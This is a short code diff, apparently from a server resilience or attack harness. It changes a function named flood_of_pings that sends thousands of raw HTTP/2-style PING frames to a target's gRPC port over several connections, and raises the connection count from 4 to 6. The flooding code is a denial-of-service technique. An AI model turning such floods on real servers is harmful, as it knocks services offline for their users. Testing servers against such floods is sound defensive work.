@@ -134,7 +134,7 @@ def flood_of(target, door):
 @attack()
 def flood_of_pings(target):
     """Pings on one connection after another: a server with several threads may read each on a different one."""
-    for _ in range(4):
+    for _ in range(6):
         flood(target.grpc_port, raw(6, 0, 0, bytes(8)) * 2_000, 0.7)
 
 
